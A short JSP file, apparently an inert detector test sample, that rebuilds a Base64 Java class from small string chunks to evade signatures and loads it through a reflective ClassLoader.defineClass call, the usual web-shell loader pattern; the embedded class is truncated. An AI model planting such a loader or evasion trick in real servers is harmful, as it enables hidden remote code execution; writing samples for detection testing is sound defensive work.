<%-- inert sample: a generator's output cutting the Base64 of a class (a truncated header: nothing
     loads) into short pieces appended to a builder, so no literal looks like a class. --%>
<%@ page import="java.lang.reflect.Method" %>
<%
    StringBuilder sb = new StringBuilder();
        sb.append("yv66vgAAADQA");
        sb.append("GgoABAAUAQAG");
        sb.append("PGluaXQ+AQAD");
        sb.append("KClWAQAEQ29k");
        sb.append("ZQAAAAAAAAAA");
        sb.append("AAAAAAAAAAAA");
        sb.append("AAAAAAAAAA==");
    byte[] b = java.util.Base64.getDecoder().decode(sb.toString());
    Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
    m.setAccessible(true);
    ((Class<?>) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).newInstance();
%>
